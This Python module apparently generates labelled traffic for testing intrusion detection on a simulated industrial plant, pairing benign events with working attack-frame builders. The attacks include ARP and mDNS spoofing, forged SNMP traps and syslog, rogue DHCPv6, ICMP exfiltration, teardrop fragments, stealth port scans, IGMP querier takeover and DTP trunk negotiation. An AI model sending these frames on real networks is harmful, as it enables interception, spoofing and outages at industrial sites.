"""The network itself turned against a plant, and what happens to networks without anybody's doing."""

from __future__ import annotations

import hashlib
import socket
import struct
import subprocess
import time
from typing import TYPE_CHECKING, Final

from interlock.plant.machines import BY_NAME
from interlock.plant.protocols import modbus, s7comm
from interlock.plant.protocols.network import ARP, arp
from interlock.plant.wire.frames import ACK, FIN, PSH, End, ethernet, internet_checksum, tcp, udp
from proving.clients.talk import INTERFACE, Talk, ping, send_frames, tell

if TYPE_CHECKING:
    from collections.abc import Callable

_EVERYBODY: Final = End(b"\xff" * 6, b"\xff" * 4)
_LAPTOP: Final = BY_NAME["vendor-laptop"].end
_URGENT: Final = 0x20
_PORTS: Final = (21, 22, 23, 25, 80, 102, 111, 135, 139, 161, 443, 445, 502, 789, 1089, 1911, 2222, 2404, 4840, 5007,
                 9600, 18245, 20000, 44818, 47808)  # fmt: skip


def _end(to: str) -> End:
    return next(machine.end for machine in BY_NAME.values() if machine.ip == to)


def _ip(source: End, target: End, protocol: int, payload: bytes, flags: int = 0, number: int = 7) -> bytes:
    size = 20 + len(payload)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, size, number, flags, 64, protocol, 0, source.ip, target.ip)
    head = head[:10] + internet_checksum(head).to_bytes(2, "big") + head[12:]
    return ethernet(target.mac, source.mac, 0x0800, head + payload)


def _group(ip: str) -> End:
    octets = socket.inet_aton(ip)
    return End(b"\x01\x00\x5e" + bytes((octets[1] & 0x7F,)) + octets[2:], octets)


def networks_announced(to: str) -> None:
    """BACnet: a router to every network there may be, that nobody knows (I-Am-Router-To-Network)."""
    npdu = b"\x01\x80\x01" + struct.pack("!8H", *range(1, 9))
    datagram = b"\x81\x0b" + struct.pack("!H", 4 + len(npdu)) + npdu
    tell(to, 47808, *[datagram] * 6, pause_s=0.6)


def coap_searched(to: str) -> None:
    """CoAP: everything that there is asked what it offers, all at once and one by one (RFC 7252)."""
    asked = b"\x40\x01\x30\x39\xbb.well-known\x04core"
    send_frames([udp(_LAPTOP, _group("224.0.1.187"), (5683, 5683), asked)] * 2, 0.3)
    net = to.rpartition(".")[0]
    for host in range(10, 20):
        tell(f"{net}.{host}", 5683, asked, pause_s=0.2)


def traps_forged(to: str) -> None:
    """SNMP: the switch's links are down, says somebody else in its name (a trap of version 1)."""
    inner = bytes.fromhex("06082b06010201010000") + b"\x40\x04" + socket.inet_aton("10.77.1.1")
    inner = (
        b"\x06\x08\x2b\x06\x01\x04\x01\xf8\x11\x01"
        + inner[10:]
        + b"\x02\x01\x02\x02\x01\x00\x43\x01\x01\x30\x00"
    )
    pdu = bytes((0xA4, len(inner))) + inner
    body = b"\x02\x01\x00\x04\x06public" + pdu
    trap = bytes((0x30, len(body))) + body
    mine = End(_LAPTOP.mac, BY_NAME["switch"].end.ip)
    send_frames([udp(mine, _end(to), (50000, 162), trap)] * 6, 0.8)


def events_forged(to: str) -> None:
    """Syslog: a hundred events in a controller's name, between which nobody finds the true one."""
    mine = End(_LAPTOP.mac, BY_NAME["plc-water"].end.ip)
    frames = [
        udp(
            mine,
            _end(to),
            (514, 514),
            f"<13>Nov 29 16:{n % 60:02d}:00 plc-water PLC: event {n} cleared".encode(),
        )
        for n in range(100)
    ]
    send_frames(frames, 0.08)


def leases_of_six(to: str) -> None:  # noqa: ARG001 - to everybody
    """DHCPv6: an address and a name server for everybody who asked or not, as mitm6 does."""
    source = bytes.fromhex("fe80000000000000") + b"\x56\xe1\xad\xff\xfe\x5a\x10\x28"
    group = bytes.fromhex("ff020000000000000000000000010002")
    target = bytes.fromhex("333300010002")
    servers = struct.pack("!HH", 23, 16) + source
    own = struct.pack("!HHHH", 2, 10, 3, 1) + _LAPTOP.mac
    frames = []
    for number in range(10):
        kind = (2, 7)[number % 2]  # advertise, reply
        body = bytes((kind,)) + struct.pack("!I", number)[1:] + own + servers
        size = 8 + len(body)
        head = struct.pack("!HHHH", 547, 546, size, 0)
        pseudo = source + group + struct.pack("!II", size, 17)
        sum_ = internet_checksum(pseudo + head + body) or 0xFFFF
        octets = head[:6] + sum_.to_bytes(2, "big") + body
        ip = struct.pack("!IHBB", 0x60000000, size, 17, 64) + source + group
        frames.append(ethernet(target, _LAPTOP.mac, 0x86DD, ip + octets))
    send_frames(frames, 0.6)


def echo_carries(to: str) -> None:
    """ICMP: a file leaves in echo requests, one a second."""
    mine, way = BY_NAME["historian"].end, BY_NAME["switch"].end
    for number in range(18):
        data = hashlib.sha256(bytes((number,))).digest() * 30
        head = struct.pack("!BBHHH", 8, 0, 0, 0x4242, number)
        head = head[:2] + internet_checksum(head + data).to_bytes(2, "big") + head[4:]
        send_frames([_ip(mine, End(way.mac, socket.inet_aton(to)), 1, head + data, number=number + 1)], 1.0)


def address_stolen(to: str) -> None:
    """The panel's address taken: announced to all, and a controller asked from it."""
    panel, mac = BY_NAME["hmi"].end, _LAPTOP.mac
    mine = End(mac, panel.ip)
    told = ethernet(_EVERYBODY.mac, mac, ARP, arp(2, mine, End(_EVERYBODY.mac, mine.ip)))
    asked = tcp(mine, _end(to), (51000, 502), (1000, 0), 0x02)
    send_frames([told, told, asked, told, asked], 1.0)


def fragments_overlapping(to: str) -> None:
    """IP: fragments that overlap, so that who joins them falls over (teardrop)."""
    frames = []
    for number in range(8):
        first = _ip(
            _LAPTOP, _end(to), 17, struct.pack("!HHHH", 4000, 502, 40, 0) + bytes(28), 0x2000, 600 + number
        )
        second = _ip(_LAPTOP, _end(to), 17, bytes(8), 3, 600 + number)
        frames += [first, second]
    send_frames(frames, 0.3)


def searched_by_fin(to: str) -> None:
    """TCP: segments that open nothing (FIN alone, none at all, FIN with PSH and URG) to many ports."""
    mine, other = BY_NAME["historian"].end, _end(to)
    frames = [
        tcp(mine, other, (40000 + n, port), (7, 0), flags)
        for flags in (FIN, 0, FIN | PSH | _URGENT)
        for n, port in enumerate(_PORTS)
    ]
    send_frames(frames, 0.1)


def searched_by_acks(to: str) -> None:
    """TCP: bare acknowledgements to many ports, to learn what a firewall lets through."""
    mine, other = BY_NAME["historian"].end, _end(to)
    send_frames([tcp(mine, other, (41000 + n, port), (7, 9), ACK) for n, port in enumerate(_PORTS)], 0.2)


def searched_by_datagrams(to: str) -> None:
    """UDP: an empty datagram to many ports; closed ones say so."""
    for port in (
        53,
        69,
        111,
        123,
        137,
        161,
        500,
        514,
        1911,
        2222,
        4800,
        5683,
        9600,
        20000,
        30718,
        34962,
        47808,
    ):
        tell(to, port, b"", pause_s=0.15)


def querier_taken(to: str) -> None:  # noqa: ARG001 - to all systems
    """IGMP: general queries from a lower address: the switch asks no more, and groups run dry (RFC 2236)."""
    mine, group = End(_LAPTOP.mac, bytes((10, 77, 1, 0))), _group("224.0.0.1")
    query = b"\x11\x01\0\0" + bytes(4)
    query = query[:2] + internet_checksum(query).to_bytes(2, "big") + query[4:]
    send_frames([_ip(mine, group, 2, query)] * 8, 1.0)


def trunk_negotiated(to: str) -> None:  # noqa: ARG001 - to the switch's group
    """DTP: a port is to become a trunk, which carries every VLAN (yersinia)."""
    tlvs = (
        struct.pack("!HH", 1, 5) + b"\0" + struct.pack("!HHB", 2, 5, 0x03) + struct.pack("!HHB", 3, 5, 0xA5)
    )
    tlvs += struct.pack("!HH", 4, 10) + _LAPTOP.mac
    body = b"\xaa\xaa\x03\x00\x00\x0c\x20\x04\x01" + tlvs
    frame = bytes.fromhex("01000ccccccc") + _LAPTOP.mac + struct.pack("!H", len(body)) + body
    send_frames([frame] * 10, 0.8)


def leases_released(to: str) -> None:
    """DHCP: addresses given back in the names of those that hold them."""
    frames = []
    for name in ("hmi", "historian", "engineering"):
        end = BY_NAME[name].end
        head = struct.pack("!BBBBIHH", 1, 1, 6, 0, 9, 0, 0) + end.ip + bytes(12) + end.mac.ljust(16, b"\0")
        options = b"\x63\x82\x53\x63\x35\x01\x07\x36\x04" + socket.inet_aton(to) + b"\xff"
        octets = (head + bytes(192) + options).ljust(300, b"\0")
        frames += [udp(End(_LAPTOP.mac, end.ip), BY_NAME["switch"].end, (68, 67), octets)] * 2
    send_frames(frames, 0.7)


def names_answered(to: str) -> None:  # noqa: ARG001 - to the group
    """mDNS: another's name is here, says a machine that it does not belong to."""
    group = _group("224.0.0.251")
    answer = struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0) + b"\x0bengineering\x05local\0"
    answer += struct.pack("!HHIH", 1, 0x8001, 120, 4) + _LAPTOP.ip
    send_frames([udp(_LAPTOP, group, (5353, 5353), answer)] * 8, 0.8)


# What is nobody's attack


def _run(*words: str) -> None:
    subprocess.run(words, check=False)


def switch_renamed(to: str) -> None:
    """Somebody gave the switch another name: it announces itself as ever, with that (LLDP)."""
    mac = _end(to).mac
    lldp = (
        b"\x02\x07\x04" + mac + b"\x04\x03\x07p1" + b"\x06\x02\x00\x78" + b"\x0a\x09hall-two1" + b"\x00\x00"
    )
    send_frames([ethernet(bytes.fromhex("0180c200000e"), mac, 0x88CC, lldp)] * 3, 3.0)


def name_looked_up(to: str) -> None:
    """A program on the historian asks for the name of its update server, and nobody answers."""
    name = b"\x06update\x07example\x03com\0"
    for number in range(2):
        tell(to, 53, struct.pack("!HHHHHH", number + 5, 0x100, 1, 0, 0, 0) + name + b"\0\1\0\1", pause_s=1.5)


def link_flapped(to: str) -> None:  # noqa: ARG001 - its own card
    """A cable moved: three seconds without a link."""
    _run("ip", "link", "set", INTERFACE, "down")
    time.sleep(3.0)
    _run("ip", "link", "set", INTERFACE, "up")


def address_renewed(to: str) -> None:
    """A machine says again by ARP where it is, as cards do when they come up (RFC 5227)."""
    mine = _end(to)
    send_frames([ethernet(_EVERYBODY.mac, mine.mac, ARP, arp(1, mine, End(bytes(6), mine.ip)))] * 3, 1.0)


def telephone_plugged(to: str) -> None:  # noqa: ARG001 - to everybody
    """A telephone is plugged in: it asks for an address and announces itself (LLDP)."""
    mac = bytes.fromhex("00085d112233")
    head = struct.pack("!BBBBIHH", 1, 1, 6, 0, 77, 0, 0x8000) + bytes(16) + mac.ljust(16, b"\0")
    octets = (head + bytes(192) + b"\x63\x82\x53\x63\x35\x01\x01\x0c\x05phone\xff").ljust(300, b"\0")
    asked = udp(End(mac, bytes(4)), _EVERYBODY, (68, 67), octets)
    lldp = b"\x02\x07\x04" + mac + b"\x04\x07\x03" + mac + b"\x06\x02\x00\x78\x0a\x05phone\x00\x00"
    told = ethernet(bytes.fromhex("0180c200000e"), mac, 0x88CC, lldp)
    send_frames([asked, told, asked, told, told], 2.0)


def six_awakes(to: str) -> None:
    """A machine's system begins to speak IPv6: duplicate address detection, listeners, routers asked for."""
    mac = _end(to).mac
    own = bytes.fromhex("fe80000000000000") + bytes((mac[0] ^ 2, *mac[1:3], 0xFF, 0xFE, *mac[3:]))
    node = bytes.fromhex("ff0200000000000000000001ff") + own[13:]
    rows = [(bytes(16), node, b"\x87\0\0\0" + bytes(4) + own)]
    rows += [
        (own, bytes.fromhex("ff020000000000000000000000000002"), b"\x85\0\0\0" + bytes(4) + b"\1\1" + mac)
    ] * 3
    frames = []
    for source, group, bare in rows:
        pseudo = source + group + struct.pack("!II", len(bare), 58)
        body = bare[:2] + internet_checksum(pseudo + bare).to_bytes(2, "big") + bare[4:]
        ip = struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + source + group
        frames.append(ethernet(b"\x33\x33" + group[12:], mac, 0x86DD, ip + body))
    send_frames(frames, 1.0)


def pinged(to: str) -> None:
    """The engineering station looks whether three controllers are there (echo requests)."""
    net = to.rpartition(".")[0]
    for host in (10, 12, 14):
        ping(f"{net}.{host}", 3, 0.5)
        time.sleep(1.0)


def reconnected(to: str) -> None:
    """The panel's connection to a controller is opened a second time for some readings, and closed in order."""
    for number in range(2):
        with Talk(to, 502) as talk:
            for k in range(4):
                talk.say(modbus.adu(number * 10 + k, 1, modbus.read(4, 0, 5)), 0.3)
        time.sleep(2.0)


def backed_up(to: str) -> None:
    """The engineering station reads what the boiler's controller is, as ordered."""
    with Talk(to, 102) as talk:
        talk.say(s7comm.connect())
        talk.say(s7comm.setup(1))
        for number, (szl, index) in enumerate(((0x11, 0), (0x1C, 0), (0xA0, 0), (0x74, 0))):
            talk.say(s7comm.szl(2 + number, szl, index), 0.5)


def printers_looked_for(to: str) -> None:  # noqa: ARG001 - to groups
    """An office program on the historian looks for printers (mDNS, SSDP)."""
    asked = struct.pack("!HHHHHH", 0, 0, 1, 0, 0, 0) + b"\x04_ipp\x04_tcp\x05local\0\0\x0c\0\1"
    search = b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 2\r\n'
    search += b"ST: urn:schemas-upnp-org:device:Printer:1\r\n\r\n"
    mine = BY_NAME["historian"].end
    frames = [udp(mine, _group("224.0.0.251"), (5353, 5353), asked)] * 3
    frames += [udp(mine, _group("239.255.255.250"), (50124, 1900), search)] * 3
    send_frames(frames, 0.5)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "networks-announced": networks_announced,
    "coap-searched": coap_searched,
    "traps-forged": traps_forged,
    "events-forged": events_forged,
    "leases-of-six": leases_of_six,
    "echo-carries": echo_carries,
    "address-stolen": address_stolen,
    "fragments-overlapping": fragments_overlapping,
    "searched-by-fin": searched_by_fin,
    "searched-by-acks": searched_by_acks,
    "searched-by-datagrams": searched_by_datagrams,
    "querier-taken": querier_taken,
    "trunk-negotiated": trunk_negotiated,
    "leases-released": leases_released,
    "names-answered": names_answered,
    "switch-renamed": switch_renamed,
    "name-looked-up": name_looked_up,
    "link-flapped": link_flapped,
    "address-renewed": address_renewed,
    "telephone-plugged": telephone_plugged,
    "six-awakes": six_awakes,
    "pinged": pinged,
    "reconnected": reconnected,
    "backed-up": backed_up,
    "printers-looked-for": printers_looked_for,
}
